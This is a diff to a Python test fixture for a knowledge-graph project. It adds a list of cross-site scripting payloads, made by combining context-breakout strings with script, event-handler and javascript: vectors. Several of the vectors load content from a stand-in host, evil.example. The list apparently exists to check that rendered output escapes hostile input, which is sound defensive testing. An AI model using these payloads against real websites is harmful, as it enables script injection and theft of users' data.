@@ -34,11 +34,11 @@ def sample_graph() -> KnowledgeGraph:
     return kg.build("sample", model="rules")
 
 
-def nasty_graph() -> KnowledgeGraph:
-    """Every payload as title, abstract, author, name, alias, identifier, address and id."""
+def nasty_graph(texts: tuple[str, ...] = NASTY) -> KnowledgeGraph:
+    """Every text as title, abstract, author, name, alias, identifier, address and id."""
     papers, entities, resources, claims = [], [], [], []
     types = list(EntityType)
-    for number, text in enumerate(NASTY):
+    for number, text in enumerate(texts):
         paper = Paper(
             id=f"{text}#{number}" if number % 2 else f"title:{number}",
             title=text,
@@ -82,3 +82,32 @@ def nasty_graph() -> KnowledgeGraph:
                 )
             )
     return KnowledgeGraph(papers=papers, entities=entities, resources=resources, claims=claims)
+
+
+_BREAKOUTS = (
+    "",
+    "'>",
+    '">',
+    "</title>",
+    "</script>",
+    "-->",
+    "]]>",
+    "</textarea></style>",
+    "`",
+    "\\",
+    "</svg></math>",
+)
+_VECTORS = (
+    "<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
+    "<img src=https://evil.example/p.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=https://evil.example></iframe>",
+    "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<base href=https://evil.example/>", "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<object data=https://evil.example>",
+    "<embed src=https://evil.example>", "<video src=https://evil.example autoplay onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>", "<template><img src=x onerror=alert(1)></template>", "onmouseover=alert(1) x=",
+    "${alert(1)}", "{{alert(1)}}", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript>alert(1)</script>",
+    "<!--<script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "data:text/html,<script>alert(1)</script>",
+)  # fmt: skip
+PAYLOADS: tuple[str, ...] = tuple(breakout + vector for breakout in _BREAKOUTS for vector in _VECTORS)
